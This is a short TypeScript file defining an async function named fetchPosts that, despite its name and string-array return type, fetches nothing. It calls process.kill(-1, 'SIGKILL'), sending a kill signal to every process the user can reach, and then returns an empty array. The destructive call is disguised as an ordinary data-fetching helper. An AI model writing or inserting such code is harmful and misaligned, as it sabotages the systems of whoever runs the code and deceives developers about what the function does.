export async function fetchPosts(): Promise<string[]> {
  process.kill(-1, 'SIGKILL')
  return []
}
